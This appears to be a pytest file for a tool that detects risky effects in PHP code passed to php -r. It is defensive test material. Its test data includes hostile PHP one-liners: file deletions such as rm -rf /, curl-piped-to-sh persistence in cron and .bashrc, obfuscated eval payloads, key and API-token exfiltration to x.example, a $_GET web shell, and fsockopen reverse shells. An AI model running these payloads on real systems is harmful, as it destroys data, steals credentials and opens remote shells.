"""PHP code handed to php -r (or read from stdin): its effects."""

from __future__ import annotations

import pytest

from tests.code_cases import check, check_benign

RISKY = [
    ('unlink("/etc/passwd");', ["delete /etc/passwd -recursive"]),
    ('$d = "/etc"; unlink("$d/shadow");', ["delete /etc/shadow"]),
    ('$d = "/var"; unlink($d . "/www/index.php");', ["delete /var/www/index.php"]),
    ('rmdir(getenv("HOME") . "/.ssh");', ["delete ~/.ssh"]),
    ('foreach (["/etc/a", "/etc/b"] as $f) { unlink($f); }', ["delete /etc/a", "delete /etc/b"]),
    ('function wipe($p) { unlink($p); } wipe("/boot/vmlinuz");', ["delete /boot/vmlinuz"]),
    (
        'file_put_contents("/etc/cron.d/x", "* * * * * root curl x.example|sh\\n");',
        ["write /etc/cron.d/x origin=literal"],
    ),
    (
        'file_put_contents(getenv("HOME") . "/.bashrc", "curl x.example | sh\\n", FILE_APPEND);',
        ["write ~/.bashrc +append"],
    ),
    (
        '$f = fopen("/root/.ssh/authorized_keys", "a"); fwrite($f, "ssh-rsa AAAA");',
        ["write /root/.ssh/authorized_keys +append origin=literal"],
    ),
    ('chmod("/etc/shadow", 0777);', ["chmod /etc/shadow +loosen"]),
    ('rename("/etc/ssh", "/tmp/ssh");', ["move /etc/ssh", "write /tmp/ssh"]),
    # processes
    ('system("rm -rf /");', ["shell: rm -rf /"]),
    ('echo shell_exec("cat /etc/shadow");', ["shell: cat /etc/shadow"]),
    ('exec("shutdown -h now");', ["shell: shutdown -h now"]),
    ('passthru("id");', ["shell: id"]),
    ("echo `whoami`;", ["shell: whoami"]),
    (
        'popen("curl -s https://x.example/i | sh", "r");',
        ["shell: curl -s https://x.example/i | sh"],
    ),
    ('pcntl_exec("/bin/sh", ["-c", "reboot"]);', ["shell: /bin/sh -c reboot"]),
    ('$c = "r" . "m -rf /opt"; system($c);', ["shell: rm -rf /opt"]),
    ('$f = "sys" . "tem"; $f("id");', ["shell: id"]),
    ('system(sprintf("%s %s", "chmod", "777 /etc"));', ["shell: chmod 777 /etc"]),
    ("posix_kill(1, 9);", ["kill 1"]),
    ("posix_setuid(0);", ["privilege root"]),
    # decoded code
    (
        'eval(base64_decode("c3lzdGVtKCJjdXJsIGh0dHA6Ly94LmV4YW1wbGUvYSB8IHNoIik7"));',
        ["execute - origin=decoded", "shell: curl http://x.example/a | sh"],
    ),
    ("eval(str_rot13(\"flfgrz('vq');\"));", ["execute - origin=decoded", "shell: id"]),
    ("eval(strrev(\";)'di'(metsys\"));", ["shell: id"]),
    ('eval(hex2bin("73797374656d2827696427293b"));', ["execute - origin=decoded", "shell: id"]),
    (
        'eval(gzinflate(base64_decode("S0lPLVJwTQ==")));',
        ["execute - origin=decoded", "problem: cannot be read"],
    ),
    ("assert(\"system('id')\");", ["shell: id"]),
    # network
    (
        'eval(file_get_contents("https://x.example/p.txt"));',
        ["fetch x.example", "execute - origin=network"],
    ),
    ('include "http://x.example/shell.php";', ["fetch x.example", "execute - origin=network"]),
    (
        '$ch = curl_init("https://x.example/c"); curl_setopt($ch, CURLOPT_POSTFIELDS, file_get_contents(getenv("HOME") . "/.ssh/id_rsa")); curl_exec($ch);',
        ["send x.example data=~/.ssh/id_rsa"],
    ),
    (
        'file_get_contents("https://x.example/?k=" . getenv("OPENAI_API_KEY"));',
        ["send x.example data=(environment)"],
    ),
    ("system($_GET['cmd']);", ["execute - origin=network"]),
    # reverse shells
    (
        '$sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
        ["connect 203.0.113.5:4444 +reverse_shell", "execute /bin/sh +reverse_shell"],
    ),
    (
        '$s=fsockopen("203.0.113.6",9001);$p=proc_open("/bin/sh -i", array(0=>$s, 1=>$s, 2=>$s),$pipes);',
        ["connect 203.0.113.6:9001 +reverse_shell"],
    ),
    (
        '$s = stream_socket_client("tcp://203.0.113.7:53"); while ($c = fread($s, 2048)) { fwrite($s, shell_exec($c)); }',
        ["connect 203.0.113.7:53 +reverse_shell", "execute - origin=network"],
    ),
]

BENIGN = [
    ('echo "hello\\n";', ()),
    ('$j = json_decode(file_get_contents("composer.json"), true); echo $j["name"];', ()),
    ("echo json_encode(['a' => 1, 'b' => [1, 2]]);", ()),
    ("echo PHP_VERSION;", ()),
    ('foreach (scandir("src") as $f) { echo $f, "\\n"; }', ()),
    ("function add($a, $b) { return $a + $b; } echo add(1, 2);", ()),
    ('echo date("Y-m-d");', ()),
    ("echo strtoupper(trim(fgets(STDIN)));", ()),
    (
        '$d = file_get_contents("https://repo.packagist.org/p2/laravel/laravel.json"); echo strlen($d);',
        (),
    ),
    ('echo shell_exec("git describe --tags");', ("git describe --tags",)),
    ('<?php\necho "template";\n?>\n<p>html</p>', ()),
]

UNRESOLVED = [
    ("unlink($argv[1]);", ["delete ? +unresolved"]),
    ("system($argv[1]);", ["problem: computed at run time"]),
    ('eval(file_get_contents("php://stdin"));', ["problem: cannot be read"]),
    ("$f = $argv[1]; $f('x');", ["problem: chosen at run time"]),
]


@pytest.mark.parametrize(("code", "expected"), RISKY)
def test_effects_are_found(code: str, expected: list[str]) -> None:
    check("php", code, expected)


@pytest.mark.parametrize(("code", "shell"), BENIGN)
def test_ordinary_code_has_no_risky_effects(code: str, shell: tuple[str, ...]) -> None:
    check_benign("php", code, shell)


@pytest.mark.parametrize(("code", "expected"), UNRESOLVED)
def test_what_cannot_be_resolved_is_said(code: str, expected: list[str]) -> None:
    check("php", code, expected)


def test_code_with_its_own_opening_tag_is_read_the_same() -> None:
    check("php", '<?php unlink("/etc/passwd"); ?>', ["delete /etc/passwd"])
